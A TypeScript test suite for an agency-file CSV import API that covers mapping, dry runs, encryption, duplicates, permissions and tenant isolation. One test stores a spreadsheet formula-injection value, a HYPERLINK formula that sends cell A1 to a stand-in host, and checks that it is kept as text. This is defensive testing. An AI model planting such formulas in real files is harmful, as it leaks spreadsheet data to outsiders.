import { randomUUID } from 'node:crypto';
import type { ImportCheckView, ImportView, ReferralView } from '@waymark/contracts';
import { ImportsRepository } from '../src/features/imports/imports.repository.js';
import { RunImport } from '../src/features/imports/index.js';
import { currentScope } from '../src/platform/database/request-scope.js';
import { FieldCipher } from '../src/platform/secrets/field-cipher.js';
import { aReferralRequest } from './setup/a-referral-request.js';
import { csvOf, someone, UNTIDY_ROWS, type AgencyRow } from './setup/an-agency-file.js';
import { ImportSteps } from './setup/import-steps.js';
import { startTestApp, type TestApp } from './setup/test-app.js';
import { whoWaits } from './setup/who-waits.js';

/** Beyond the names that the file has of its own, everybody is called like nobody else. */
const otherName = (number: number): AgencyRow => (number < 84 ? {} : { Forename: spelt(number), Surname: spelt(number * 7 + 3), DOB: '' });
const spelt = (number: number): string => [...String(number)].map((digit) => 'abcdefghik'[Number(digit)]).join('o').padEnd(7, 'yx');

describe('imports of agencies’ files', () => {
  let test: TestApp;
  let steps: ImportSteps;

  beforeEach(async () => {
    test = await startTestApp();
    steps = new ImportSteps(test, await test.signedInAs('duty-worker'));
  });
  afterEach(() => test.close());

  const count = async (table: string): Promise<number> =>
    (await test.owner.query(`SELECT count(*)::int AS count FROM ${table}`)).rows[0].count;
  const referral = async (id: string | null): Promise<ReferralView> => (await steps.worker.get(`/api/referrals/${id}`).expect(200)).body;

  /** How many rows of files each request has decrypted. */
  function countDecryptedRows(): () => number[] {
    const cipher = test.app.get(FieldCipher);
    const decrypt = cipher.decrypt.bind(cipher);
    const byRequest = new Map<string, number>();
    cipher.decrypt = (sealed, place) => {
      const { requestId } = currentScope();
      if (place.table === 'import_rows') byRequest.set(requestId, (byRequest.get(requestId) ?? 0) + 1);
      return decrypt(sealed, place);
    };
    return () => [...byRequest.values()];
  }

  describe('POST /api/imports', () => {
    it('takes the file in, shows its first rows and suggests what its columns mean, and makes nobody', async () => {
      const view = await steps.upload();
      expect(view).toMatchObject({ state: 'uploaded', source: 'Ardal Police', mappingOrigin: 'suggested', isRepeat: false, encoding: 'utf-8' });
      expect(view.counts).toMatchObject({ rows: 23, waiting: 23, referral: 0, review: 0, blank: 0 });
      expect(view.preview).toHaveLength(5);
      expect(view.preview[0]?.[view.columns.indexOf('Forename')]).toBe('Tirion');
      expect(view.mapping.find(({ column }) => column === 'Crime number')?.field).toBeNull();
      expect(await count('people')).toBe(0);
    });

    it('stores every row only encrypted', async () => {
      await steps.upload();
      const { rows } = await test.owner.query('SELECT row_to_json(r)::text AS row FROM import_rows r');
      for (const { row } of rows) expect(row).not.toMatch(/Tirion|Aberwylan|900100/);
    });

    it('keeps nothing in clear of a first line that is somebody’s data, and refuses it where no heading is known', async () => {
      const nameless = '11/08/2026,Tirion,Cadwallader,07700 900100\n12/08/2026,Osgar,Threlkeld,07700 900101\n';
      expect((await steps.post(nameless).expect(409)).body.code).toBe('file-without-headings');
      expect(await count('import_batches')).toBe(0);
      const view: ImportView = (await steps.post(`Tirion,Surname,07700 900100\n${nameless}`).expect(201)).body;
      expect(view.columns).toContain('Tirion');
      const named = [
        { column: 'Tirion', field: 'forename' as const },
        { column: 'Surname', field: 'surname' as const },
        { column: '07700 900100', field: 'received-on' as const },
      ];
      const { body } = await steps.act(view, 'map', { columns: named }).expect(200);
      await steps.start(body);
      const { rows } = await test.owner.query(
        'SELECT row_to_json(b)::text AS row FROM import_batches b UNION ALL SELECT row_to_json(s)::text FROM import_sources s',
      );
      expect(rows).toHaveLength(2);
      for (const { row } of rows) expect(row).not.toMatch(/Tirion|900100/);
    });

    it('takes headings that it knows from this source alone', async () => {
      const strange = 'Data przyjęcia,Imię,Nazwisko\n';
      const view: ImportView = (await steps.post(`${strange.replace('Nazwisko', 'Surname')}11/08/2026,Katya,Wisniewska\n`).expect(201)).body;
      const fields = ['received-on', 'forename', 'surname'] as const;
      const { body } = await steps.act(view, 'map', { columns: view.columns.map((column, at) => ({ column, field: fields[at] })) }).expect(200);
      await steps.start(body);
      await steps.post(`${strange}12/08/2026,Sabeen,Oyelaran\n`).expect(201);
      expect((await steps.post(`${strange}12/08/2026,Sabeen,Oyelaran\n`, 'Another').expect(409)).body.code).toBe('file-without-headings');
    });

    it('says so when the file that is here is taken back in this very moment', async () => {
      await steps.upload();
      const imports = test.app.get(ImportsRepository);
      imports.batchWithDigest = async () => null;
      expect((await steps.post(csvOf(UNTIDY_ROWS)).expect(412)).body.code).toBe('stale-version');
    });

    it('creates nothing when the same file comes again, and shows the import that is there', async () => {
      const first = await steps.upload();
      const again = await steps.upload();
      expect([again.id, again.isRepeat]).toEqual([first.id, true]);
      expect([await count('import_batches'), await count('import_rows')]).toEqual([1, 23]);
    });

    it('makes one import of two uploads at the same moment', async () => {
      const answers = await Promise.all([steps.post(csvOf(UNTIDY_ROWS)), steps.post(csvOf(UNTIDY_ROWS))]);
      expect(answers.map((answer) => answer.status)).toEqual([201, 201]);
      expect(await count('import_batches')).toBe(1);
    });

    it('reads Windows letters and semicolons, and says that it had to', async () => {
      const csv = 'Date received;Forename;Surname\r\n11/08/2026;Siân;Pryce\r\n';
      const { body } = await steps.post(Buffer.from(csv, 'latin1')).expect(201);
      expect([body.encoding, body.preview[0]]).toEqual(['windows-1252', ['11/08/2026', 'Siân', 'Pryce']]);
    });

    it.each([
      ['nothing', '', 409, 'file-empty'],
      ['headings without a row', 'Forename,Surname', 409, 'file-empty'],
      ['a workbook', Buffer.from('PK\u0003\u0004rest', 'latin1'), 409, 'file-not-csv'],
      ['quotes that never close', 'a,b\n"x,y\n', 409, 'file-not-csv'],
      ['more rows than a file may have', `a,b\n${'x,y\n'.repeat(2_001)}`, 409, 'file-too-many-rows'],
      ['more than five megabytes', `a,b\n${'x'.repeat(5 * 1024 * 1024)}`, 413, 'too-large'],
    ])('refuses %s in a sentence of its own', async (_, content, status, code) => {
      const answer = await steps.post(content);
      expect([answer.status, answer.body.code, await count('import_batches')]).toEqual([status, code, 0]);
    });

    it('refuses another kind of content, a missing source and a missing key', async () => {
      expect((await steps.post('a,b', 'Police', 'text/plain')).status).toBe(415);
      const { body } = await steps.worker.post('/api/imports').set('Idempotency-Key', randomUUID()).type('text/csv').send('a,b\nc,d').expect(400);
      expect(body.fields).toMatchObject([{ field: 'source', code: 'required' }]);
      const keyless = await steps.worker.post('/api/imports?source=x').type('text/csv').send('a,b\nc,d').expect(400);
      expect(keyless.body.code).toBe('idempotency-key-missing');
    });

    it('is for those who may import', async () => {
      const send = (agent: Awaited<ReturnType<TestApp['signedInAs']>>) => new ImportSteps(test, agent).post('a,b\nc,d');
      expect((await send(test.nobody())).status).toBe(401);
      expect((await send(await test.signedInAs('key-worker'))).status).toBe(403);
      expect((await send(await test.signedInAs('administrator'))).status).toBe(403);
    });
  });

  describe('POST /api/imports/:id/map', () => {
    it('remembers the mapping for the source, whatever its spelling', async () => {
      const view = await steps.upload();
      const columns = view.mapping.map((one) => (one.column === 'Crime number' ? { ...one, field: 'known-as' as const } : one));
      const { body } = await steps.act(view, 'map', { columns }).expect(200);
      expect(body).toMatchObject({ mappingOrigin: 'confirmed', version: 2 });
      await steps.start(body);
      const next = await steps.upload([someone(60)], 'ARDAL police');
      expect(next.mappingOrigin).toBe('remembered');
      expect(next.mapping.find(({ column }) => column === 'Crime number')?.field).toBe('known-as');
      expect((await steps.worker.get('/api/imports/sources').expect(200)).body).toHaveLength(1);
    });

    it('asks for the fields without which no row can become a referral', async () => {
      const view = await steps.upload();
      const columns = view.mapping.map((one) => (one.field === 'surname' ? { ...one, field: null } : one));
      expect((await steps.act(view, 'map', { columns }).expect(409)).body.code).toBe('mapping-incomplete');
    });

    it('names the column that fills a field twice, is given twice or is not in the file', async () => {
      const view = await steps.upload();
      const twice = view.mapping.map((one) => (one.column === 'Summary' ? { ...one, field: 'surname' as const } : one));
      const at = view.columns.indexOf('Summary');
      expect((await steps.act(view, 'map', { columns: twice }).expect(400)).body.fields).toEqual([
        { field: `columns.${at}.field`, code: 'repeated', limit: null },
      ]);
      const strange = [...view.mapping, { column: 'Moon', field: null }];
      expect((await steps.act(view, 'map', { columns: strange }).expect(400)).body.fields[0].code).toBe('not-a-choice');
      const unknown = [{ column: 'Ref', field: 'moon' }];
      expect((await steps.act(view, 'map', { columns: unknown }).expect(400)).body.fields[0]).toMatchObject({ field: 'columns.0.field' });
    });

    it('refuses an old version and a missing one', async () => {
      const view = await steps.upload();
      await steps.map(view);
      expect((await steps.act(view, 'map', { columns: view.mapping }).expect(412)).body.code).toBe('stale-version');
      await steps.worker.post(`/api/imports/${view.id}/map`).send({ columns: view.mapping }).expect(428);
    });
  });

  describe('POST /api/imports/:id/check', () => {
    it('says what importing would do, with every reason, and writes nobody down', async () => {
      const mapped = await steps.map(await steps.upload());
      const dry = await steps.check(mapped);
      expect(dry.counts).toEqual({ rows: 23, ready: 15, review: 7, blank: 1 });
      expect(dry.reasons.map((reason) => reason.code).sort()).toEqual([
        'impossible-score',
        'likely-duplicate',
        'missing-name',
        'missing-received-date',
        'phone-belongs-to-other',
        'unreadable-date',
      ]);
      expect(dry.rows[0]).toEqual({ position: 17, reasons: [{ code: 'unreadable-date', column: 'DOB' }] });
      expect([await count('people'), await count('referrals'), (await steps.read(mapped)).state]).toEqual([0, 0, 'uploaded']);
    });

    it('looks at a bounded number of rows at a time, and names where the next step begins', async () => {
      const view = await steps.map(await steps.upload(Array.from({ length: 130 }, (_, number) => someone(number))));
      const first = await steps.worker.post(`/api/imports/${view.id}/check`).expect(200);
      expect([first.body.counts.rows, first.body.next]).toEqual([100, 100]);
      const second = await steps.worker.post(`/api/imports/${view.id}/check?from=100`).expect(200);
      expect([second.body.counts.rows, second.body.next]).toEqual([30, null]);
      expect((await steps.worker.post(`/api/imports/${view.id}/check?from=x`)).status).toBe(400);
    });

    it('decrypts the whole file once and then each step its own rows, and still finds who repeats a row of an earlier step', async () => {
      const rows = Array.from({ length: 230 }, (_, number) => someone(number < 84 ? number : number + 1_000, otherName(number)));
      const view = await steps.map(await steps.upload([...rows, someone(3, { Ref: 'X9999' })]));
      const decrypted = countDecryptedRows();
      const step = async (from: number): Promise<ImportCheckView> =>
        (await steps.worker.post(`/api/imports/${view.id}/check?from=${from}`).expect(200)).body;
      const seen = [await step(0), await step(100), await step(200)];
      expect(decrypted()).toEqual([231, 100, 31]);
      expect(seen[2]?.rows).toContainEqual({ position: 231, reasons: [{ code: 'likely-duplicate', column: null }] });
      expect([(await steps.read(view)).version, await count('import_batches WHERE trial IS NOT NULL')]).toEqual([view.version, 1]);
      // Another day may read a date otherwise, and other columns mean another file.
      test.clock.setTo('2026-11-25T10:00:00.000Z');
      await step(100);
      expect(decrypted().at(-1)).toBe(231);
      const { body } = await steps.act(view, 'map', { columns: view.mapping }).expect(200);
      await step(100);
      expect(decrypted().at(-1)).toBe(231);
      await steps.start(body);
      expect(await count('import_batches WHERE trial IS NOT NULL')).toBe(0);
    });

    it('waits until the columns are confirmed', async () => {
      const view = await steps.upload();
      const answer = await steps.worker.post(`/api/imports/${view.id}/check`).expect(409);
      expect(answer.body.code).toBe('mapping-incomplete');
    });
  });

  describe('an import that has run', () => {
    it('accounts for every row as a referral, a row to review or blank', async () => {
      const done = await steps.imported();
      expect(done.state).toBe('imported');
      expect(done.counts).toEqual({ rows: 23, waiting: 0, referral: 15, review: 7, reviewHigh: 2, blank: 1, discarded: 0, withdrawn: 0, kept: 0 });
      expect(await count('referrals')).toBe(15);
    });

    it('comes to the same as the dry run said', async () => {
      const mapped = await steps.map(await steps.upload());
      const { counts } = await steps.check(mapped);
      const { id } = await steps.start(mapped);
      await test.app.get(RunImport).run(id);
      expect((await steps.read({ id })).counts).toMatchObject({ referral: counts.ready, review: counts.review, blank: counts.blank });
    });

    it('keeps a police score and a DARA grade as what they are, and risk not assessed', async () => {
      const done = await steps.imported();
      const sent = await steps.rows(done, 'referral');
      const police = await referral(sent.find((row) => row.position === 11)?.referralId ?? null);
      const dara = await referral(sent.find((row) => row.position === 12)?.referralId ?? null);
      expect(police.externalAssessment).toEqual({ instrument: 'police-dash-27', score: 26, outOf: 27, grade: null });
      expect(dara.externalAssessment).toEqual({ instrument: 'dara', score: null, outOf: null, grade: 'high' });
      expect([police.risk, dara.risk]).toEqual(['not-assessed', 'not-assessed']);
      expect(sent.filter((row) => row.statesHighRisk).map((row) => row.position)).toEqual([11, 12]);
    });

    it('keeps text that begins like a formula as text, and a missing time as not given', async () => {
      const done = await steps.imported();
      const sent = await steps.rows(done, 'referral');
      const formula = await referral(sent.find((row) => row.position === 13)?.referralId ?? null);
      expect(formula.summary).toBe('=HYPERLINK("http://example.invalid/?x="&A1,"open")');
      const timeless = await referral(sent.find((row) => row.position === 9)?.referralId ?? null);
      expect(timeless.receivedTime).toBeNull();
      expect(timeless.clocks.every((clock) => clock.startedAt === '2026-09-07T23:00:00.000Z' && !clock.isStartTimeGiven)).toBe(true);
    });

    it('takes agreement to the referral for none of the four consents', async () => {
      const done = await steps.imported([someone(1)]);
      const [row] = await steps.rows(done, 'referral');
      expect((await referral(row?.referralId ?? null)).consents.map(({ answer }) => answer)).toEqual(Array(4).fill('not-asked'));
    });

    it('gives nobody the telephone of somebody else', async () => {
      const done = await steps.imported();
      const row = await steps.rowWith(done, 'phone-belongs-to-other');
      expect(row.reviewReasons[0]).toMatchObject({ code: 'phone-belongs-to-other', raw: "••••• •••989 (mum's)" });
      expect(await count('contact_points WHERE masked LIKE \'%989\'')).toBe(0);
    });

    it('was done in the name of whoever started it', async () => {
      const done = await steps.imported([someone(1)]);
      const { rows } = await test.owner.query(
        `SELECT DISTINCT a.system_job, w.email FROM audit_entries a JOIN workers w ON w.id = a.worker_id WHERE a.action = 'referral.recorded'`,
      );
      expect(rows).toEqual([{ system_job: 'import', email: 'duty-worker@north.example' }]);
      expect(done.startedBy).toBe('duty-worker of North');
    });

    it('sends to review whoever is known already, and the same case of the same source in another file', async () => {
      const known = aReferralRequest();
      await steps.worker.post('/api/referrals').set('Idempotency-Key', randomUUID()).send(known).expect(201);
      const back = someone(3, { Forename: 'Sian', Surname: 'Llewelyn', DOB: '3/2/1990' });
      const first = await steps.imported([someone(1), back]);
      expect(first.counts).toMatchObject({ referral: 1, review: 1 });
      const row = await steps.rowWith(first, 'known-person');
      expect(row.matches[0]).toMatchObject({ familyName: 'Llywelyn', strength: 'certain-looking' });
      const second = await steps.imported([someone(1, { Forename: 'Quite', Surname: 'Otherwise', DOB: '02/02/1970', 'Safe phone': '' })]);
      expect((await steps.rowWith(second, 'already-sent')).reviewReasons[0]).toMatchObject({ field: 'reference', raw: 'X1001' });
      const elsewhere = await steps.imported([someone(1, { Forename: 'Nobody', Surname: 'Alike', DOB: '03/03/1971', 'Safe phone': '' })], 'Housing');
      expect(elsewhere.counts.referral).toBe(1);
    });

    it('changes nothing when it runs again, or twice at once', async () => {
      const { id } = await steps.start(await steps.map(await steps.upload()));
      const running = test.app.get(RunImport);
      await Promise.all([running.run(id), running.run(id)]);
      await running.run(id);
      expect((await steps.read({ id })).counts).toMatchObject({ waiting: 0, referral: 15, review: 7, blank: 1 });
      expect(await count('referrals')).toBe(15);
    });

    it('refuses to be started again', async () => {
      const done = await steps.imported([someone(1)]);
      expect((await steps.act(done, 'start').expect(409)).body.code).toBe('import-state-forbids');
    });

    it('stops when its originator may import no more, and goes on in the name of another', async () => {
      const started = await steps.start(await steps.map(await steps.upload([someone(1), someone(2)])));
      await test.owner.query(`UPDATE memberships SET role = 'key-worker' WHERE worker_id = (SELECT id FROM workers WHERE email = 'duty-worker@north.example')`);
      await test.app.get(RunImport).run(started.id);
      const lead = new ImportSteps(test, await test.signedInAs('team-lead'));
      const stopped = await lead.read(started);
      expect([stopped.state, stopped.counts.waiting]).toEqual(['stopped', 2]);
      await lead.start(stopped);
      await test.app.get(RunImport).run(started.id);
      expect((await lead.read(started)).counts.referral).toBe(2);
    });

    it('leaves a row that cannot be saved to a person and goes on with the next', async () => {
      await test.owner.query(`ALTER TABLE referrals ADD CONSTRAINT no_moon CHECK (referrer_name <> 'moon')`);
      const done = await steps.imported([someone(1), someone(2, { Referrer: 'moon' }), someone(3)]);
      expect(done.counts).toMatchObject({ referral: 2, review: 1 });
      const row = await steps.rowWith(done, 'not-saved');
      await test.owner.query('ALTER TABLE referrals DROP CONSTRAINT no_moon');
      expect((await steps.finish(row).expect(200)).body.state).toBe('referral');
    });

    it('leaves a row to a person after five tries at which trouble seemed to be passing', async () => {
      await test.owner.query(`
        CREATE FUNCTION full_moon() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
          IF NEW.referrer_name = 'moon' THEN RAISE EXCEPTION 'deadlock' USING ERRCODE = '40P01'; END IF; RETURN NEW; END $$;
        CREATE TRIGGER full_moon BEFORE INSERT ON referrals FOR EACH ROW EXECUTE FUNCTION full_moon()`);
      const { id } = await steps.start(await steps.map(await steps.upload([someone(1, { Referrer: 'moon' }), someone(2), someone(3)])));
      const running = test.app.get(RunImport);
      const answers = [];
      while ((await steps.read({ id })).state === 'importing') answers.push(await running.run(id).catch((error: unknown) => error));
      expect(answers[0]).toMatchObject({ code: '40P01' });
      expect(await count('import_rows WHERE tries = 5')).toBe(1);
      expect(await steps.read({ id })).toMatchObject({ state: 'imported', counts: { referral: 2, review: 1, waiting: 0 } });
      expect((await steps.rowWith({ id }, 'not-saved')).state).toBe('review');
    });

    it('makes no referral of a row that it took up just before the import was stopped', async () => {
      const { id } = await steps.start(await steps.map(await steps.upload([someone(1), someone(2)])));
      await test.owner.query('BEGIN');
      await test.owner.query(`UPDATE import_batches SET state = 'stopped', version = version + 1 WHERE id = $1`, [id]);
      const run = test.app.get(RunImport).run(id);
      await whoWaits(test).finally(() => test.owner.query('COMMIT'));
      await run;
      expect([await count('referrals'), await count(`import_rows WHERE state = 'waiting'`)]).toEqual([0, 2]);
    });
  });

  describe('POST /api/imports/:id/discard', () => {
    it('leaves no memory of how a wrong file was to be read', async () => {
      const view = await steps.map(await steps.upload());
      await steps.act(view, 'discard').expect(200);
      expect((await steps.worker.get('/api/imports/sources').expect(200)).body).toEqual([]);
    });

    it('forgets the text of a wrong file, and lets it be uploaded again', async () => {
      const view = await steps.upload();
      expect((await steps.act(view, 'discard').expect(200)).body.state).toBe('discarded');
      expect(await count('import_rows WHERE raw IS NOT NULL')).toBe(0);
      expect(await count('import_batches WHERE columns IS NOT NULL OR mapping IS NOT NULL')).toBe(0);
      expect((await steps.read(view)).columns).toEqual([]);
      expect((await steps.upload()).isRepeat).toBe(false);
    });

    it('is refused once the file was imported', async () => {
      const done = await steps.imported([someone(1)]);
      expect((await steps.act(done, 'discard').expect(409)).body.code).toBe('import-state-forbids');
    });
  });

  describe('GET /api/imports', () => {
    it('lists the files newest first with their counts, and nobody’s name', async () => {
      await steps.imported([someone(1)]);
      test.clock.setTo('2026-11-24T11:00:00.000Z');
      await steps.upload([someone(2)], 'Housing');
      const { body } = await steps.worker.get('/api/imports').expect(200);
      expect(body.items.map((item: { source: string; state: string }) => [item.source, item.state])).toEqual([
        ['Housing', 'uploaded'],
        ['Ardal Police', 'imported'],
      ]);
      expect(JSON.stringify(body)).not.toContain('Osgar');
    });
  });

  it('answers another organisation for every route as if there were no such import', async () => {
    const view = await steps.imported();
    const [row] = await steps.rows(view);
    const south = new ImportSteps(test, await test.signedInAs('service-manager', 'south'));
    for (const path of ['', '/rows', `/rows/${row?.id}`]) await south.worker.get(`/api/imports/${view.id}${path}`).expect(404);
    await south.act(view, 'undo').expect(404);
    await south.act(view, 'start').expect(404);
    await south.act(view, 'discard').expect(404);
    await south.act(view, 'map', { columns: [] }).expect(404);
    await south.worker.post(`/api/imports/${view.id}/check`).expect(404);
    await south.finish({ id: row?.id ?? '', importId: view.id, version: 1 }).expect(404);
    expect((await south.worker.get('/api/imports').expect(200)).body.items).toEqual([]);
    // Its own file with the same bytes is a file of its own.
    expect((await south.upload()).isRepeat).toBe(false);
  });
});
